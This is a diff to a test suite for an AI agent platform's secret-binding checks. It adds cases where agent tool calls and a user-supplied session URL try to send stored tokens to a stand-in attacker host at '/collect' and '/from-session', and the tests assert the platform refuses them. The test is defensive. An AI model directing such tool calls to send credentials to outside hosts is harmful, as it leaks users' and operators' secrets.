@@ -56,6 +56,7 @@ describe('secrets bound to their destinations', () => {
     const created = await app.call('POST', '/v2/agents', {
       key: 'helpdesk',
       name: 'helpdesk',
+      metadata: { api_base: `${api.url}/meta` },
       model: { name: 'm' },
       tool_configurations: {
         search: { type: 'corpora_search', query_configuration: { search: { corpora: [{ corpus_key: 'kb', lexical_interpolation: 1 }] } } },
@@ -65,6 +66,9 @@ describe('secrets bound to their destinations', () => {
         fixed: { type: 'web_get', argument_override: { url: `${api.url}/fixed`, headers } },
         // Secrets in the body, put into the query by a transform: the call is bound all the same.
         poster: { type: 'web_get', argument_override: { method: 'POST', body: { $ref: 'session.secrets.pass' } }, input_transform: '{url: (.args.url + "?k=" + .args.body), method: "POST", body: .args.body}' },
+        // A URL from the agent's metadata is its configurers' choice; one from the session's metadata is its creator's.
+        meta: { type: 'web_get', argument_override: { url: { $ref: 'agent.metadata.api_base' }, headers } },
+        bysession: { type: 'web_get', argument_override: { url: { $ref: 'session.metadata.target' }, headers } },
         // No secret at all: the model's URL is free (within the outbound policy).
         plain: { type: 'web_get' },
         // A client tool: the caller runs it, and gets the secrets' references, never their values.
@@ -76,7 +80,7 @@ describe('secrets bound to their destinations', () => {
     expect(created.status).toBe(201);
     expect((await app.call('PUT', '/v2/agents/helpdesk/secrets', { secrets: { token: TOKEN } })).status).toBe(200);
     endUser = asKey(await createUser(app, 'shopper', { agent_roles: [{ agent_key: 'helpdesk', role: 'agent_user' }] }));
-    expect((await app.call('POST', '/v2/agents/helpdesk/sessions', { key: 's', secrets: { pass: SESSION_TOKEN } }, endUser)).status).toBe(201);
+    expect((await app.call('POST', '/v2/agents/helpdesk/sessions', { key: 's', secrets: { pass: SESSION_TOKEN }, metadata: { target: `${attacker.url}/from-session` } }, endUser)).status).toBe(201);
   });
   afterAll(async () => {
     await app?.close();
@@ -100,10 +104,12 @@ describe('secrets bound to their destinations', () => {
     expect(out.c0_0.tool_output.search_results[0].text).toContain('/collect');
     expect(out.c1_0).toMatchObject({ error: true, tool_output: { error: expect.stringContaining(`refused: this tool's configuration puts secrets into the call (agent.secrets.token), which it sends only to ${api.url}; ${attacker.url} is not one of them. Nothing was sent`) } });
     // The fixed URL wins over the model's; the body secret bound to nowhere is refused.
-    const more = await ask([{ name: 'fixed', arguments: { url: `${attacker.url}/collect` } }, { name: 'poster', arguments: { url: `${attacker.url}/collect` } }, { name: 'plain', arguments: { url: `${attacker.url}/public` } }]);
+    const more = await ask([{ name: 'fixed', arguments: { url: `${attacker.url}/collect` } }, { name: 'poster', arguments: { url: `${attacker.url}/collect` } }, { name: 'plain', arguments: { url: `${attacker.url}/public` } }, { name: 'meta', arguments: {} }, { name: 'bysession', arguments: {} }]);
     expect(more.c0_0).toMatchObject({ error: false, tool_output: { status: 200, url: `${api.url}/fixed` } });
     expect(more.c0_1).toMatchObject({ error: true, tool_output: { error: expect.stringContaining('(session.secrets.pass), which it sends nowhere: its configuration fixes no url and lists no secret_origins') } });
     expect(more.c0_2).toMatchObject({ error: false, tool_output: { status: 200 } });
+    expect(more.c0_3).toMatchObject({ error: false, tool_output: { status: 200, url: `${api.url}/meta` } });
+    expect(more.c0_4).toMatchObject({ error: true, tool_output: { error: expect.stringContaining(`which it sends nowhere: its configuration fixes no url and lists no secret_origins; ${attacker.url} is not one of them`) } });
     // The attacker saw only the call that carried no secret, and nothing of any secret in any header, query or body.
     expect(attacker.hits.map((h) => h.url)).toEqual(['/public']);
     expect(leaked(attacker.hits)).toEqual([]);
